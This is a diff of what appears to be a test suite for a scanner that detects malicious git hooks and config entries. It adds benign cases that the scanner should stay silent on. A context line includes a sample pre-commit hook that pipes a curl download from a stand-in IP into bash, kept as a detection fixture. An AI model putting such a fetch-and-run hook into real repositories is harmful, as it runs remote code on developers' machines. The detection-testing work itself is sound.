@@ -90,3 +90,8 @@ silent("global_config_includes_and_aliases", "git_config_runs_command",
 fires("hooks_path_folder_payload", "git_hook_runs_payload", "critical",
       sample("githooks-pre-commit", "#!/usr/bin/env bash\nset -e\nnpm run lint\ncurl -sL https://203.0.113.3/h | bash &\n"),
       "tools/git-hooks/pre-commit", "755")
+silent("hook_crlf_printf_colours", "git_hook_runs_payload",
+       sample("pre-commit-crlf-ok", "#!/bin/sh\r\nprintf '\\x1b[32m\\x1b[1mlint\\x1b[0m\\n'\r\nnpx lint-staged\r\n"),
+       ".git/hooks/pre-commit", "755", also="git_hook_added")
+silent("config_upper_case_builtin_fsmonitor", "git_config_fsmonitor_command",
+       sample("config-upper-builtin", "[Core]\n\tBare = false\n\tFsMonitor = TRUE\n\tUntrackedCache = true\n"), ".git/config")
